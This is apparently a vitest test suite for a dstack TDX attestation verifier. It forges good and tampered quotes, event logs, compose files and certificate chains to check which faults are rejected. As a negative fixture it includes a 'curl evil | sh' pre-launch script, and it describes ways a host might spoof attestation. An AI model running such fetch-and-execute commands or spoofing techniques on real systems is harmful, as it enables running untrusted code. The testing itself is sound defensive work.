/** A forged dstack agent: what reaches the workload, and every fault that keeps it from there. */
import { describe, expect, it } from "vitest";
import {
  appCompose,
  COMPOSE_FILE,
  DSTACK_KEYS,
  type DstackRequest,
  forgeDstack,
} from "../../../fixtures/dstack/bundle.js";
import { type ForgedEvent, type LogRecord, runtimeEvent } from "../../../fixtures/intel/event-log.js";
import { pem, testKey } from "../../../fixtures/x509.js";
import { checkOf, expectedOf, failures, hex, judge, judgeAs } from "../../support/dstack.js";

const agent = forgeDstack();
const EVIL = appCompose("services:\n  agent:\n    image: evil:latest\n");
const evil = forgeDstack({ compose: EVIL });
const at = (events: readonly ForgedEvent[], name: string): number => events.findIndex((event) => event.name === name);

/** Changes the record of one event. */
const record =
  (name: string, change: (record: LogRecord) => Partial<LogRecord>) =>
  (records: LogRecord[]): LogRecord[] =>
    records.map((item) => (item["event"] === name ? { ...item, ...change(item) } : item));

describe("the right agent", () => {
  it("is verified, down to the workload", async () => {
    const verdict = await judge();
    expect(failures(verdict)).toEqual([]);
    expect(verdict).toMatchObject({ outcome: "verified", covers: "workload", freshness: "none" });
    expect(checkOf(verdict, "tdx/rtmr3")).toMatchObject({ status: "passed" });
    expect(verdict.channel).toEqual({ publicKeySha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    // R4: a certificate that outlives its evidence, and no nonce.
    expect(verdict.limits.join(" ")).toContain("as old as the certificate's key");
    expect(verdict.limits.join(" ")).not.toContain("without a digest");
  });

  it("is so as a quote with log and compose file, fresh where it answers a nonce", async () => {
    const nonce = new Uint8Array(32).fill(7);
    const publicKey = DSTACK_KEYS.agent.spki;
    const { reportDataFor } = await import("../../../src/dstack.js");
    const answer = forgeDstack({ reportData: await reportDataFor({ nonce, publicKey }) }).answer;
    const options = { expected: expectedOf(agent), binding: { nonce, publicKey } };
    const verdict = await judgeAs(JSON.stringify(answer), options);
    expect(failures(verdict)).toEqual([]);
    expect(verdict).toMatchObject({ outcome: "verified", covers: "workload", freshness: "nonce" });
    const other = { ...options, binding: { nonce: new Uint8Array(32).fill(8), publicKey } };
    expect(await judgeAs(JSON.stringify(answer), other)).toMatchObject({
      outcome: "rejected",
      freshness: "none",
      channel: "none",
    });
  });

  it.each([0, 1] as const)(
    "as its certificate alone, %d times wrapped: the launch, since no compose file came along",
    async (wraps) => {
      const { leaf } = forgeDstack({ wraps });
      const binding = { layout: "dstack-ratls-cert", publicKey: DSTACK_KEYS.agent.spki } as const;
      for (const evidence of [leaf, pem("CERTIFICATE", leaf)]) {
        const verdict = await judgeAs(evidence, { expected: expectedOf(agent), binding });
        expect(failures(verdict)).toEqual([]);
        expect(verdict).toMatchObject({ outcome: "verified", covers: "launch" });
        expect(checkOf(verdict, "dstack/app-compose")).toMatchObject({
          status: "undetermined",
          code: "compose-missing",
        });
        expect(verdict.limits.join(" ")).toContain("compose file did not come along");
        expect(verdict.channel).not.toBe("none");
      }
      const other = { ...binding, publicKey: testKey("p256-1").spki };
      expect(failures(await judgeAs(leaf, { binding: other }))).toEqual(["tdx/report-data report-data-mismatch"]);
    },
  );

  it.each([1, 2, 3] as const)("with MRCONFIGID of version %d", async (mrConfig) => {
    const verdict = await judge({ mrConfig });
    expect(verdict).toMatchObject({ outcome: "verified", covers: "workload" });
    expect(checkOf(verdict, "dstack/mr-config-id")).not.toHaveProperty("notice");
  });

  it("with a log of canonical JSON, and with one that leaves its digests out", async () => {
    const second = (events: readonly ForgedEvent[]) =>
      events.map((event) => (event.register === 3 ? runtimeEvent(event.name, event.payload, 2) : event));
    expect((await judge({ measure: second })).outcome).toBe("verified");
    const bare = (records: LogRecord[]) => records.map((item) => (item["imr"] === 3 ? { ...item, digest: "" } : item));
    expect((await judge({ log: bare })).outcome).toBe("verified");
  });

  it("and with events of the application behind system-ready", async () => {
    const measure = (events: readonly ForgedEvent[]) => [...events, runtimeEvent("compose-hash", evil.composeHash)];
    expect(await judge({ measure })).toMatchObject({ outcome: "verified", covers: "workload" });
  });
});

describe("what is expected reaches into what was measured", () => {
  const info = JSON.stringify(agent.info);
  const system = agent.system;
  const right = {
    composeHash: hex(agent.composeHash),
    appId: hex(agent.appId),
    instanceId: hex(agent.instanceId),
    osImageHash: hex(agent.osImageHash),
    keyProvider: hex(agent.keyProvider),
  };

  it.each(Object.entries(right))("%s", async (name, value) => {
    const dstack = { composeHash: right.composeHash, [name]: [value, "00".repeat(value.length / 2)] };
    expect((await judgeAs(info, { expected: { tdx: system, dstack } })).outcome).toBe("verified");
    const wrong = { ...dstack, [name]: "00".repeat(value.length / 2) };
    const verdict = await judgeAs(info, { expected: { tdx: system, dstack: wrong } });
    expect(failures(verdict)).toEqual(["dstack/build build-mismatch"]);
    expect(verdict).toMatchObject({ outcome: "rejected" });
  });

  it("named events of the quote inside", async () => {
    const dstack = { composeHash: right.composeHash };
    const events = { "os-image-hash": right.osImageHash };
    expect((await judgeAs(info, { expected: { tdx: { ...system, events }, dstack } })).outcome).toBe("verified");
    const wrong = { "os-image-hash": right.composeHash };
    expect(failures(await judgeAs(info, { expected: { tdx: { ...system, events: wrong }, dstack } }))).toEqual([
      "tdx/build build-mismatch",
    ]);
  });

  it("row 49: MRTD alone is the firmware, whatever the log says of the application", async () => {
    const expected = { tdx: { mrtd: system.mrtd }, dstack: { composeHash: right.composeHash } };
    const verdict = await judgeAs(info, { expected });
    expect(verdict).toMatchObject({ outcome: "rejected", covers: "firmware" });
    expect(failures(verdict)).toEqual(["evidence/covers covers-too-little"]);
    expect(await judgeAs(info, { expected, covers: "firmware" })).toMatchObject({
      outcome: "verified",
      covers: "firmware",
    });
  });

  it.each([
    ["instance id", { instanceId: right.instanceId }],
    ["OS image hash", { osImageHash: right.osImageHash }],
    ["app id, which the host may choose,", { appId: right.appId }],
    ["key provider", { keyProvider: right.keyProvider }],
  ])("a launch of which the %s alone is expected is none", async (_, dstack) => {
    const verdict = await judgeAs(info, { expected: { tdx: system, dstack } });
    expect(verdict).toMatchObject({ outcome: "rejected", covers: "firmware" });
    expect(verdict.limits.join(" ")).toContain("You expect no compose hash");
  });

  it("an app id under the key provider that governs it is a launch, and no workload", async () => {
    const dstack = { appId: right.appId, keyProvider: right.keyProvider };
    const verdict = await judgeAs(info, { expected: { tdx: system, dstack } });
    expect(verdict).toMatchObject({ outcome: "verified", covers: "launch" });
    expect(verdict.limits.join(" ")).toContain("You expect no compose hash");
  });

  it("nothing expected of the application is refused", async () => {
    expect(failures(await judgeAs(info, { expected: { tdx: system } }))).toContain("dstack/build no-reference-values");
  });

  it("nothing expected of the system covers nothing", async () => {
    const verdict = await judgeAs(info, { expected: { dstack: { composeHash: right.composeHash } } });
    expect(verdict).toMatchObject({ outcome: "rejected", covers: "nothing" });
  });
});

describe("the quote alone, taken out of its bundle", () => {
  const stranger = forgeDstack({ compose: EVIL, appId: agent.appId });
  const bare = ({ answer }: typeof agent): string => JSON.stringify({ ...answer, app_compose: undefined });
  const { system } = agent;
  const composeHash = hex(agent.composeHash);
  const governed = { "app-id": hex(agent.appId), "key-provider": hex(agent.keyProvider) };

  it("does not rid its sender of what is demanded of the application", async () => {
    const expected = { tdx: { ...system, events: governed }, dstack: { composeHash } };
    expect(await judgeAs(JSON.stringify(agent.info), { expected })).toMatchObject({ outcome: "verified" });
    const verdict = await judgeAs(bare(stranger), { expected });
    expect(failures(verdict)).toEqual(["evidence/accepted-kind kind-not-accepted"]);
    expect(checkOf(verdict, "evidence/accepted-kind")?.params).toEqual({ kind: "tdx", accept: ["dstack"] });
    // A caller who names tdx asks for two things at once, which this is not.
    expect((await judgeAs(bare(stranger), { expected, accept: ["tdx", "dstack"] })).outcome).toBe("rejected");
  });

  it.each([
    ["its OS image hash", { "os-image-hash": hex(agent.osImageHash) }],
    ["its instance id", { "instance-id": hex(agent.instanceId) }],
    ["an app id, which the host may choose,", { "app-id": hex(agent.appId) }],
  ])("is no launch where %s alone is expected of the application", async (_, events) => {
    const verdict = await judgeAs(bare(stranger), { expected: { tdx: { ...system, events } } });
    expect(verdict).toMatchObject({ outcome: "rejected", covers: "firmware" });
    expect(failures(verdict)).toEqual(["evidence/covers covers-too-little"]);
    expect(verdict.limits.join(" ")).toContain("name no application");
  });

  it.each([
    ["a compose hash", { events: { "compose-hash": composeHash } }],
    ["an app id and who governs it", { events: governed }],
  ])("is one where %s is", async (_, more) => {
    const verdict = await judgeAs(bare(agent), { expected: { tdx: { ...system, ...more } } });
    expect(verdict).toMatchObject({ outcome: "verified", covers: "launch" });
    expect(verdict.limits.join(" ")).not.toContain("name no application");
  });
});

describe("a launch that leaves open what runs is no workload", () => {
  it.each([
    ["image-by-tag", EVIL, "without a digest (evil:latest)"],
    ["docker-socket", appCompose(`${COMPOSE_FILE}    volumes:\n    - /var/run/docker.sock:/s\n`), "Docker socket"],
    ["pre-launch-script", appCompose(COMPOSE_FILE, { pre_launch_script: "curl evil | sh" }), "pre-launch script"],
    ["compose-unread", appCompose(`x: &a\n${COMPOSE_FILE}`), "not in a form that is read here"],
    ["environment-decides", appCompose(`${COMPOSE_FILE}    command: \${WHAT}\n`), "decide what runs"],
    ["privileged", appCompose(`${COMPOSE_FILE}    privileged: true\n`), "change the guest beneath"],
  ])("%s", async (_, compose, words) => {
    const verdict = await judge({ compose });
    expect(verdict).toMatchObject({ outcome: "verified", covers: "launch" });
    expect(verdict.limits.join(" ")).toContain(words);
  });

  it("settings from the operator are named, and leave it one", async () => {
    const verdict = await judge({ compose: appCompose(COMPOSE_FILE, { allowed_envs: ["TOKEN"] }) });
    expect(verdict).toMatchObject({ outcome: "verified", covers: "workload" });
    expect(verdict.limits.join(" ")).toContain("not measured: TOKEN");
  });
});

describe("row 44 and 45: the log", () => {
  const log = (change: (records: LogRecord[]) => unknown): DstackRequest => ({ log: change });
  it.each([
    ["no log", { tcbInfo: { event_log: undefined } }, "dstack/format malformed"],
    ["an empty one", log(() => []), "tdx/event-log event-log-mismatch"],
    ["an event too few", log((records) => records.slice(0, -1)), "tdx/event-log event-log-mismatch"],
    ["an event twice", log((records) => [...records, records.at(-1)]), "tdx/event-log event-log-mismatch"],
    ["events in another order", log((records) => [...records].reverse()), "tdx/event-log event-log-mismatch"],
    ["a register too many", log((records) => [...records, { ...records[0], imr: 4 }]), "tdx/event-log malformed"],
    [
      "another hash",
      log(record("app-id", (item) => ({ digest: item["digest"].slice(0, 64) }))),
      "tdx/event-log malformed",
    ],
    [
      "a firmware event whose data was exchanged",
      log((records) => records.map((item, index) => (index === 0 ? { ...item, event_payload: "01000000" } : item))),
      "tdx/event-log event-payload-mismatch",
    ],
    [
      "a payload that was exchanged and whose digest was kept",
      log(record("compose-hash", () => ({ event_payload: hex(evil.composeHash) }))),
      "tdx/event-log event-payload-mismatch",
    ],
    [
      "an event under another name",
      log(record("compose-hash", () => ({ event: "compose-hash-of-old" }))),
      "tdx/event-log event-payload-mismatch",
    ],
  ])("%s", async (_, request, failure) => {
    const verdict = await judge(request);
    expect(verdict.outcome).toBe("rejected");
    expect(failures(verdict)).toContain(failure);
  });
});

describe("row 46: whoever runs the application cannot pass it off as another", () => {
  /** The guest runs something evil, which then emits the good compose hash: dstack lets applications emit events of any name. */
  const emits = (...later: readonly ForgedEvent[]): DstackRequest => ({
    compose: EVIL,
    measure: (events) => [...events, ...later],
    tcbInfo: { app_compose: appCompose(), compose_hash: hex(agent.composeHash) },
    info: { compose_hash: hex(agent.composeHash) },
  });
  const good = runtimeEvent("compose-hash", agent.composeHash);
  const expected = expectedOf(forgeDstack({ compose: EVIL }));
  const asked = { ...(expected as object), dstack: { composeHash: hex(agent.composeHash) } } as typeof expected;

  it("an event behind system-ready says nothing", async () => {
    const verdict = await judge(emits(good), { expected: asked });
    expect(failures(verdict)).toEqual(
      expect.arrayContaining(["dstack/app-compose compose-mismatch", "dstack/build build-mismatch"]),
    );
  });

  it("of two before it the first counts", async () => {
    const request: DstackRequest = {
      ...emits(),
      measure: (events) => [
        ...events.slice(0, at(events, "boot-mr-done")),
        good,
        ...events.slice(at(events, "boot-mr-done")),
      ],
    };
    const system = forgeDstack(request).system;
    const verdict = await judge(request, {
      expected: { tdx: system, dstack: { composeHash: hex(agent.composeHash) } },
    });
    expect(failures(verdict)).toContain("dstack/build build-mismatch");
  });

  it.each([
    ["of another type", { event_type: 4 }],
    ["of no action", { event_type: 3 }],
    ["without names", { event: "" }],
  ])("sending the true events as events %s, with their digests, hides nothing", async (_, change) => {
    const hide = (records: LogRecord[]): LogRecord[] =>
      records.map((item, index) =>
        index < records.length - 1 && ["compose-hash", "system-ready"].includes(item["event"])
          ? { ...item, ...change }
          : item,
      );
    const verdict = await judge({ ...emits(good), log: hide }, { expected: asked });
    expect(verdict.outcome).toBe("rejected");
    expect(checkOf(verdict, "tdx/event-log")?.status).toBe("failed");
    expect(verdict.parts[1]?.claims).not.toHaveProperty("events");
  });

  it.each([
    ["of another type", { event_type: 1 }],
    ["of a separator's type", { event_type: 4 }],
  ])("nor does sending what was hashed as the data of an event %s", async (_, change) => {
    const disguise = (item: LogRecord): LogRecord => {
      const before = Buffer.concat([Buffer.from([1, 0, 0, 8]), Buffer.from(`:${item["event"]}:`)]).toString("hex");
      return { ...item, event: "", event_payload: before + item["event_payload"], ...change };
    };
    const hide = (records: LogRecord[]): LogRecord[] =>
      records.map((item, index) =>
        index < records.length - 1 && ["app-id", "compose-hash", "system-ready"].includes(item["event"])
          ? disguise(item)
          : item,
      );
    const verdict = await judge({ ...emits(good), log: hide }, { expected: asked });
    expect(verdict.outcome).toBe("rejected");
    expect(failures(verdict)).toEqual(expect.arrayContaining(["tdx/event-log event-payload-mismatch"]));
    expect(verdict.parts[1]?.claims).not.toHaveProperty("events");
  });

  it("a name with a colon in it could end elsewhere, and is refused", async () => {
    const odd = runtimeEvent("note", ":x:compose");
    expect((await judge({ measure: (events) => [...events, odd] })).outcome).toBe("verified");
    const verdict = await judge({
      measure: (events) => [...events, odd],
      log: record("note", () => ({ event: "note::x", event_payload: hex(new TextEncoder().encode("compose")) })),
    });
    expect(failures(verdict)).toContain("tdx/event-log event-payload-mismatch");
  });
});

describe("row 47 and 50: what stands beside the quote", () => {
  it.each([
    ["another compose text", { tcbInfo: { app_compose: EVIL } }, "dstack/app-compose compose-mismatch"],
    ["a compose text that is none", { tcbInfo: { app_compose: 7 } }, "dstack/format malformed"],
    ["another app id", { info: { app_id: "00".repeat(20) } }, "dstack/stated stated-mismatch"],
    ["another compose hash", { info: { compose_hash: hex(evil.composeHash) } }, "dstack/stated stated-mismatch"],
    ["another instance", { info: { instance_id: "00".repeat(20) } }, "dstack/stated stated-mismatch"],
    ["another OS image", { info: { os_image_hash: "00".repeat(32) } }, "dstack/stated stated-mismatch"],
    [
      "another key provider",
      { info: { key_provider_info: '{"name":"none","id":""}' } },
      "dstack/stated stated-mismatch",
    ],
    [
      "another OS image of the machine",
      { info: { vm_config: `{"os_image_hash":"${"00".repeat(32)}"}` } },
      "dstack/stated stated-mismatch",
    ],
    ["another register", { tcbInfo: { rtmr1: "00".repeat(48) } }, "dstack/stated stated-mismatch"],
    ["another sum of registers", { info: { mr_aggregated: "00".repeat(32) } }, "dstack/stated stated-mismatch"],
    ["two device ids", { info: { device_id: "00".repeat(32) } }, "dstack/stated stated-mismatch"],
    ["a statement that is no text", { info: { app_id: ["00"] } }, "dstack/format malformed"],
    ["a second compose text, at the top", { info: { app_compose: EVIL } }, "dstack/format malformed"],
    ["a second log, at the top", { info: { event_log: [] } }, "dstack/format malformed"],
    ["a second quote, at the top", { info: { quote: hex(evil.quote) } }, "dstack/format malformed"],
    ["a statement that is no hex", { info: { app_id: "none" } }, "dstack/format malformed"],
    [
      "an app that the certificate does not name",
      {
        measure: (events: readonly ForgedEvent[]) =>
          events.map((event) => (event.name === "app-id" ? runtimeEvent("app-id", new Uint8Array(20)) : event)),
      },
      "dstack/stated stated-mismatch",
    ],
    [
      "MRCONFIGID of another compose file",
      { mrConfig: Uint8Array.of(1, ...evil.composeHash, ...new Uint8Array(15)) },
      "dstack/mr-config-id config-id-mismatch",
    ],
    [
      "MRCONFIGID with something behind it",
      { mrConfig: Uint8Array.of(1, ...agent.composeHash, ...new Uint8Array(14), 1) },
      "dstack/mr-config-id config-id-mismatch",
    ],
    [
      "MRCONFIGID of another provider",
      { mrConfig: 2, keyProvider: '{"name":"kms","id":"00"}' },
      "dstack/mr-config-id config-id-mismatch",
    ],
    ["MRCONFIGID of no version", { mrConfig: new Uint8Array(48).fill(9) }, "dstack/mr-config-id config-id-mismatch"],
    [
      "another document of MRCONFIGID",
      { mrConfig: 3, mrDocument: (text: string) => `${text} ` },
      "dstack/mr-config-id config-id-mismatch",
    ],
    ["a key provider that is no JSON", { mrConfig: 2, keyProvider: "kms" }, "dstack/mr-config-id malformed"],
  ] satisfies readonly (readonly [string, DstackRequest, string])[])(
    "%s",
    async (_, request: DstackRequest, failure) => {
      const verdict = await judge(request);
      expect(verdict.outcome).toBe("rejected");
      expect(failures(verdict)).toContain(failure);
    },
  );

  it("the same compose text and log at the top and in tcb_info is one", async () => {
    const { app_compose, event_log } = JSON.parse(agent.info["tcb_info"] as string) as Record<string, unknown>;
    expect(await judge({ info: { app_compose, event_log } })).toMatchObject({
      outcome: "verified",
      covers: "workload",
    });
  });

  it("a document of MRCONFIGID that names another compose file", async () => {
    // The host commits to a document of its own, which is hashed rightly and is of something else.
    const document = JSON.stringify({ compose_hash: hex(evil.composeHash), version: 3 });
    const { createHash } = await import("node:crypto");
    const digest = createHash("sha256").update("dstack-mr-config-v3:\0").update(document).digest();
    const mrConfig = Uint8Array.of(3, ...digest, ...new Uint8Array(15));
    const info = { vm_config: JSON.stringify({ mr_config: document }) };
    expect(failures(await judge({ mrConfig, info }))).toEqual(["dstack/mr-config-id config-id-mismatch"]);
  });

  it("a document of MRCONFIGID that did not come along is no fault, and is said", async () => {
    const verdict = await judge({ mrConfig: 3, mrDocument: () => undefined });
    expect(verdict.outcome).toBe("verified");
    expect(checkOf(verdict, "dstack/mr-config-id")?.notice).toContain("did not come along");
  });

  it("an old log without an OS image hash satisfies nobody who expects one", async () => {
    const without = (events: readonly ForgedEvent[]) => events.filter(({ name }) => name !== "os-image-hash");
    const info = { os_image_hash: "", vm_config: "" };
    const request: DstackRequest = { measure: without, info, tcbInfo: { os_image_hash: "" } };
    expect((await judge(request)).outcome).toBe("verified");
    const dstack = { composeHash: hex(agent.composeHash), osImageHash: hex(agent.osImageHash) };
    const verdict = await judge(request, { expected: { tdx: agent.system, dstack } });
    expect(checkOf(verdict, "dstack/build")).toMatchObject({
      code: "build-mismatch",
      params: { differing: ["os-image-hash"] },
    });
  });

  it("an app id of another compose file is an upgrade's or anybody's, and is said", async () => {
    const words = "not of this compose file";
    expect((await judge()).limits.join(" ")).not.toContain(words);
    const verdict = await judge({ appId: new Uint8Array(20).fill(0xa1) });
    expect(verdict).toMatchObject({ outcome: "verified", covers: "workload" });
    expect(verdict.limits.join(" ")).toContain(words);
  });

  it("the app id of an answer is not attested where nothing measured it", async () => {
    const without = (events: readonly ForgedEvent[]) => events.filter(({ name }) => name !== "app-id");
    expect(failures(await judge({ measure: without }))).toContain("dstack/stated stated-mismatch");
  });
});

describe("the certificate", () => {
  const stranger = testKey("p256-1");
  it.each([
    [
      "R1: of another key than report data names",
      { leaf: { key: stranger } },
      "dstack/certificate-key certificate-key-mismatch",
    ],
    [
      "R5: of another agent, whose quote it carries",
      { leaf: { key: stranger }, reportData: new Uint8Array(64) },
      "dstack/certificate-key certificate-key-mismatch",
    ],
    ["signed by nobody", { leaf: { issuerKey: stranger } }, "dstack/certificate-chain certificate-chain-broken"],
    [
      "under an authority that nobody signed",
      { authority: { issuerKey: stranger } },
      "dstack/certificate-chain certificate-chain-broken",
    ],
    [
      "under a root that did not sign itself",
      { root: { issuerKey: stranger } },
      "dstack/certificate-chain certificate-chain-broken",
    ],
    [
      "of another issuer by name",
      { leaf: { issuer: forgedName() } },
      "dstack/certificate-chain certificate-chain-broken",
    ],
    [
      "behind a root that was not measured",
      { root: { key: stranger, issuerKey: stranger }, authority: { issuerKey: stranger } },
      "dstack/certificate-chain certificate-chain-foreign",
    ],
    [
      "in another order",
      { chain: (chain: readonly Uint8Array[]) => [chain[0], chain[2], chain[1]] as Uint8Array[] },
      "dstack/certificate-chain certificate-chain-broken",
    ],
    ["without a quote", { leaf: { extensions: [] } }, "dstack/format malformed"],
    ["that is none", { info: { app_cert: "" } }, "dstack/format malformed"],
    [
      "among too many",
      { chain: (chain: readonly Uint8Array[]) => Array.from({ length: 9 }, () => chain[0] as Uint8Array) },
      "dstack/format malformed",
    ],
  ] satisfies readonly (readonly [string, DstackRequest, string])[])(
    "%s",
    async (_, request: DstackRequest, failure) => {
      const verdict = await judge(request);
      expect(verdict).toMatchObject({ outcome: "rejected" });
      expect(failures(verdict)).toContain(failure);
    },
  );

  it.each([
    ["its PEM", (spki: Uint8Array) => new TextEncoder().encode(pem("PUBLIC KEY", spki))],
    ["its point", (spki: Uint8Array) => spki.subarray(-65)],
    ["its certificate", () => agent.leaf],
  ])("R3: hashed over %s instead of its SubjectPublicKeyInfo is of another key", async (_, of) => {
    const { createHash } = await import("node:crypto");
    const hashed = (content: Uint8Array): Uint8Array =>
      new Uint8Array(createHash("sha512").update("ratls-cert:").update(content).digest());
    const { spki } = DSTACK_KEYS.agent;
    expect((await judge({ reportData: hashed(spki) })).outcome).toBe("verified");
    expect(failures(await judge({ reportData: hashed(of(spki)) }))).toEqual([
      "dstack/certificate-key certificate-key-mismatch",
    ]);
  });

  it("of a provider that has no certificates is followed as far as it goes, and that is said", async () => {
    const verdict = await judge({ keyProvider: '{"name":"local-sgx","id":""}' });
    expect(verdict.outcome).toBe("verified");
    expect(checkOf(verdict, "dstack/certificate-chain")?.notice).toContain("local-sgx");
  });
});

function forgedName(): Uint8Array {
  return new Uint8Array(Buffer.from("300d310b300906035504030c024d65", "hex"));
}
